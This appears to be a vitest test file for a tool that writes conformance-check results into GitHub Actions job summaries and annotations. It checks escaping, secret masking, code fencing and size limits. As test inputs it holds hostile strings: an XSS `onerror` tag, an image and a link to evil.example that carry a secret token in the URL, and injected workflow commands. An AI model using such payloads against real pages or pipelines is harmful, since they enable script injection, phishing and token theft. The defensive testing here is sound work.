import { describe, expect, it } from 'vitest';
import { redactorOf } from '../conformance/redact/redact.js';
import {
  annotations,
  codeBlock,
  codeSpan,
  cut,
  escapeData,
  escapeProperty,
  jobSummary,
  maskCommands,
  MAX_SUMMARY_BYTES,
  MAX_VALUE_CHARS,
  workflowCommand,
  type ReportForGithub,
} from '../conformance/report/github.js';
import type { CheckResult } from '../conformance/run/results.js';
import { reportOf } from './report-fixtures.js';

const SECRET = 'sk-live-51f0c2d9a8e7';
const redact = redactorOf({ authorization: `Bearer ${SECRET}` });

function failedCheck(id: string, received: string): CheckResult {
  return {
    id,
    title: 'Every event is after the cursor',
    operation: 'D',
    verdict: 'failed',
    examples: 1,
    warnings: [],
    durationMs: 12,
    failure: {
      expected: 'every event after (migration 0, 2024-09-20T13:31:28.405180Z)',
      received,
      curl: `curl -X POST 'https://scan.example/api/scan/v0/events' -H 'authorization: ***' -d '{"page_size":1}'`,
      counterexample: [{ page_size: 1 }, 1],
      shrinks: 0,
      seed: 42,
      path: '0',
      replay: `npx token-registry-kit check --scan-url https://scan.example/api/scan -H 'authorization: ***' --checks ${id} --seed 42 --path 0`,
    },
  };
}

/** A run's report against one scan URL, with --fail-on-skip (the action's default). */
const reportWith = (checks: CheckResult[]): ReportForGithub =>
  reportOf(checks, {
    target: { scan: 'https://scan.example/api/scan' },
    durationMs: 1234,
    requests: 9,
    failOnSkip: true,
  });

/** A workflow command's text as the runner reads it back. */
const unescaped = (text: string): string =>
  text.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%3A/g, ':').replace(/%2C/g, ',').replace(/%25/g, '%');

describe('workflow commands', () => {
  it('should escape %, CR and LF in a message, and : and , in a property too, as the runner unescapes them', () => {
    expect(escapeData('100% done\r\nnext: a, b')).toBe('100%25 done%0D%0Anext: a, b');
    expect(escapeProperty('d-order failed: a, b %0A')).toBe('d-order failed%3A a%2C b %250A');
    const line = workflowCommand('error', { title: 'x: y, z', file: 'a%b' }, 'one\ntwo %0A ::three::');
    expect(line).toBe('::error title=x%3A y%2C z,file=a%25b::one%0Atwo %250A ::three::\n');
    // One line whatever the text, and the text comes back whole.
    expect(line.slice(0, -1)).not.toMatch(/[\r\n]/);
    const [, title = '', message = ''] = /^::error title=([^,]*),file=[^:]*::(.*)\n$/.exec(line) ?? [];
    expect([unescaped(title), unescaped(message)]).toEqual(['x: y, z', 'one\ntwo %0A ::three::']);
  });

  it('should register each secret once, escaped, and leave short values to the kit', () => {
    expect(maskCommands(['Bearer ab%cd\nef', 'ab%cd', 'ab%cd', 'abc'], 4)).toBe(
      '::add-mask::Bearer ab%25cd%0Aef\n::add-mask::ab%25cd\n',
    );
  });
});

describe('Markdown of the summary', () => {
  it('should fence code with more backticks than the text holds, so that nothing inside is read as Markdown', () => {
    expect(codeSpan('a`b')).toBe('``a`b``');
    expect(codeSpan('`x`')).toBe('`` `x` ``');
    expect(codeSpan('one\ntwo')).toBe('`one two`');
    const hostile = '```\n![x](https://evil.example/p.png) <img src=x onerror=alert(1)>\n````';
    const block = codeBlock(hostile);
    expect(block).toBe(`\`\`\`\`\`\n${hostile}\n\`\`\`\`\``);
  });

  it('should cut a long value and say how much is left out', () => {
    expect(cut('x'.repeat(MAX_VALUE_CHARS))).toBe('x'.repeat(MAX_VALUE_CHARS));
    expect(cut('x'.repeat(MAX_VALUE_CHARS + 7))).toBe(
      `${'x'.repeat(MAX_VALUE_CHARS)}... (7 more characters in the reports)`,
    );
  });
});

describe('the job summary and the annotations', () => {
  it('should hold a hostile answer inside code, and mask a secret the report still held', () => {
    const received = `\`\`\`\n# Click [here](https://evil.example/?t=${SECRET})\n::add-mask::x`;
    const report = reportWith([failedCheck('d-cursor-exclusive', received)]);
    const summary = jobSummary(report, redact, { dir: 'reports', artifact: 'conformance-reports-gate-0-1a2b3c4d' });
    expect(summary).not.toContain(SECRET);
    expect(summary).toContain(codeBlock('```\n# Click [here](https://evil.example/?t=***)\n::add-mask::x'));
    expect(summary).toContain('| `d-cursor-exclusive` | D | **failed** | 1 |  | 0.0 s |');
    expect(summary).toContain("```sh\ncurl -X POST 'https://scan.example/api/scan/v0/events'");
    const lines = annotations(report, redact);
    expect(lines).not.toContain(SECRET);
    expect(lines.split('\n')).toHaveLength(2);
    expect(lines).toMatch(
      /^::error title=d-cursor-exclusive failed%3A Every event is after the cursor \(operation D\)::Expected: /,
    );
    expect(lines).toContain(
      '%0AReceived: ```%0A# Click [here](https://evil.example/?t=***)%0A::add-mask::x%0AReproduce with: ',
    );
  });

  it('should annotate a skip as an error with --fail-on-skip, as a warning without, and a pass not at all', () => {
    const { id, title, operation, warnings, durationMs } = failedCheck('a-known-allocation', '');
    const skip: CheckResult = {
      ...{ id, title, operation, warnings, durationMs },
      verdict: 'skipped',
      examples: 0,
      reason: 'no live allocation id known',
    };
    const passed: CheckResult = { ...skip, id: 'd-order', verdict: 'passed' };
    const failing = reportWith([skip, passed]);
    expect(annotations(failing, redact)).toBe(
      '::error title=a-known-allocation skipped%3A Every event is after the cursor (operation D)::no live allocation id known\n',
    );
    expect(annotations({ ...failing, failOnSkip: false }, redact)).toMatch(/^::warning title=a-known-allocation /);
    expect(jobSummary(failing, redact, { dir: 'reports' })).toContain(
      '- `a-known-allocation` skipped: `no live allocation id known`',
    );
  });

  it.each(['y', '漢'])(
    `should stay under ${MAX_SUMMARY_BYTES} bytes however many failures of %s, and name those left out`,
    (char) => {
      const many = Array.from({ length: 400 }, (_, i) => failedCheck(`check-${i}`, char.repeat(3 * MAX_VALUE_CHARS)));
      const summary = jobSummary(reportWith(many), redact, { dir: 'reports' });
      // GitHub counts the bytes of the file: a character of a target's text is up to 3 bytes of UTF-8 in one unit.
      expect(Buffer.byteLength(summary)).toBeLessThanOrEqual(MAX_SUMMARY_BYTES);
      expect(Buffer.byteLength(summary)).toBeGreaterThan(MAX_SUMMARY_BYTES / 2);
      const shown = [...summary.matchAll(/^### `check-\d+` failed/gm)].length;
      expect(shown).toBeGreaterThan(10);
      expect(summary).toContain(`${400 - shown} more failures past the summary's bound: \`check-${shown}\``);
      expect(summary).toContain(`... (${2 * MAX_VALUE_CHARS} more characters in the reports)`);
    },
  );
});
